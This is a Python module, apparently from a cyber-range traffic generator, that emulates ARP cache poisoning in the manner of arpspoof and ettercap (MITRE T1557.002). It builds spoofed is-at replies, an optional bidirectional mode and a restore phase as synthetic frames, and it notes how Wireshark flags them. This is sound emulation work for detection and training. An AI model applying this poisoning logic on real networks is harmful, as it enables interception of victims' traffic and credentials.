"""ARP cache poisoning (``arpspoof -t VICTIM GATEWAY`` from dsniff, ettercap ``-M arp``), MITRE
ATT&CK T1557.002 Adversary-in-the-Middle: ARP Cache Poisoning.

Imitates arpspoof: it first resolves the victims and the impersonated host the ordinary way
(the attacker's broadcast ``who-has`` and their genuine ``is-at`` answers; a compromised office
host that already has them in its ARP cache skips this), then every
``interval`` seconds (arpspoof: 2 s, ettercap: 10 s) sends each victim an unsolicited ARP reply
saying that the impersonated host's IP address is at the attacker's MAC (with ``bidirectional``,
arpspoof ``-r``, it also tells the impersonated host that each victim is at the attacker's
MAC). On exit it re-ARPs: three replies, 1 s apart, carrying the true MAC again (Ethernet
source still the attacker's).

The impersonated host (``impersonate``) is ``gateway``: the router of the victims' network, or
where there is none the office resolver (the next hop every workstation uses); ``dns``: the
resolver; or any node's name. It must share the victims' network, and so must the attacker:
ARP does not cross routers.

Wireshark's ARP dissector remembers which MAC each IP address was seen at, so after the genuine
answer the spoofed replies are flagged ``arp.duplicate-address-detected`` ("Duplicate IP
address configured"), with ``arp.duplicate-address-frame`` pointing at the genuine one.
"""
from __future__ import annotations

from pydantic import Field

from attack_scripts import _arp
from range.core import RangeError, Seconds, Strict
from range.traffic import RawFrames, StepContext, Technique, technique

RESTORE_ROUNDS = 3  # arpspoof's cleanup: the true mapping, three times, 1 s apart


class Params(Strict):
    impersonate: str = Field(default="gateway", pattern=r"^[a-z][a-z0-9-]{0,30}$",
                             description="'gateway', 'dns' or a node name: whose IP address is claimed")
    interval: Seconds = Field(default=2.0, ge=0.1, le=60, description="seconds between poisoning rounds (arpspoof: 2)")
    duration: Seconds = Field(default=60.0, ge=5, le=3600, description="how long the poisoning lasts, restore included")
    bidirectional: bool = Field(default=False, description="also poison the impersonated host (arpspoof -r)")
    restore: bool = Field(default=True, description="re-ARP the true MAC on exit, as arpspoof does")


def impersonated(ctx: StepContext, net: str, name: str):
    lay = ctx.layout
    if name == "gateway":
        gw = lay.env.networks[net].gateway
        if gw and gw in lay.hosts:
            return lay.hosts[gw]
        name = "dns"
    if name == "dns":
        on_net = [h for h in lay.hosts.values() if "dns" in h.services and net in h.ips]
        if ctx.dns_server is not None and net in ctx.dns_server.ips:
            return ctx.dns_server
        if on_net:
            return on_net[0]
        raise RangeError(f"step {ctx.step_id!r}: arp_spoof finds neither a gateway nor a resolver on network "
                         f"{net!r} to impersonate; name a node in params.impersonate")
    if name not in lay.hosts:
        raise RangeError(f"step {ctx.step_id!r}: arp_spoof params.impersonate {name!r} is not a node "
                         f"(nodes: {', '.join(lay.hosts)}), 'gateway' or 'dns'")
    host = lay.hosts[name]
    if net not in host.ips:
        raise RangeError(f"step {ctx.step_id!r}: arp_spoof cannot impersonate {name!r}: it is not on the "
                         f"victims' network {net!r}")
    return host


@technique
class ArpSpoof(Technique):
    name = "arp_spoof"
    attack = "T1557.002"
    tactic = "credential-access"
    summary = "arpspoof/ettercap ARP cache poisoning: unsolicited is-at replies claiming another host's IP"
    Params = Params
    min_targets = 1

    def duration(self, p: Params) -> float:
        return p.duration

    def generate(self, ctx: StepContext):
        p: Params = ctx.params
        r = ctx.rng
        lay = ctx.layout
        me = ctx.source
        net = _arp.shared_network(lay, me, ctx.targets[0])
        if net is None:
            raise RangeError(f"step {ctx.step_id!r}: arp_spoof source {me.name!r} shares no network with "
                             f"{ctx.targets[0].name!r}; ARP does not cross routers")
        for v in ctx.targets:
            if net not in v.ips:
                raise RangeError(f"step {ctx.step_id!r}: arp_spoof targets must all be on network {net!r}; "
                                 f"{v.name!r} is not")
        spoofed = impersonated(ctx, net, p.impersonate)
        victims = [v for v in ctx.targets if v.name != spoofed.name]
        if not victims or spoofed.name == me.name:
            raise RangeError(f"step {ctx.step_id!r}: arp_spoof would impersonate {spoofed.name!r} to itself; "
                             f"choose other targets or params.impersonate")
        mac, ip = me.macs[net], me.ips[net]
        s_ip, s_mac = spoofed.ips[net], spoofed.macs[net]
        frames: list[tuple] = []
        t = ctx.t0
        # arpspoof's arp_find(): the kernel resolves each party it has no cache entry for. A
        # compromised office host already knows its office neighbours (and its benign ARP with
        # them must stay apart from the step's); the attacker's own machine starts cold.
        for h in victims + [spoofed]:
            if _arp.benign_speaker(me) and _arp.benign_speaker(h):
                continue
            frames.append(_arp.who_has(t, mac, ip, h.ips[net]))
            frames.append(_arp.is_at(t + r.uniform(0.0001, 0.0006), h.macs[net], h.ips[net], mac, ip))
            t += r.uniform(0.001, 0.004)
        end = ctx.t0 + p.duration
        stop = end - (RESTORE_ROUNDS if p.restore else 0) - 0.05
        t = ctx.t0 + r.uniform(0.5, 1.0)
        while t <= stop:
            u = t
            for v in victims:
                v_ip, v_mac = v.ips[net], v.macs[net]
                frames.append(_arp.record(u, _arp.REPLY, mac, v_mac, mac, s_ip, v_mac, v_ip))
                u += r.uniform(0.00005, 0.0002)
                if p.bidirectional:
                    frames.append(_arp.record(u, _arp.REPLY, mac, s_mac, mac, v_ip, s_mac, s_ip))
                    u += r.uniform(0.00005, 0.0002)
            t += p.interval + r.uniform(0.0005, 0.003)
        if p.restore:
            t = max(t - p.interval, stop) + 0.01
            for _ in range(RESTORE_ROUNDS):
                u = t
                for v in victims:
                    v_ip, v_mac = v.ips[net], v.macs[net]
                    frames.append(_arp.record(u, _arp.REPLY, mac, v_mac, s_mac, s_ip, v_mac, v_ip))
                    u += r.uniform(0.00005, 0.0002)
                    if p.bidirectional:
                        frames.append(_arp.record(u, _arp.REPLY, mac, s_mac, v_mac, v_ip, s_mac, s_ip))
                        u += r.uniform(0.00005, 0.0002)
                t += 1.0
        if not _arp.watched(lay, net):
            return
        yield RawFrames(frames)
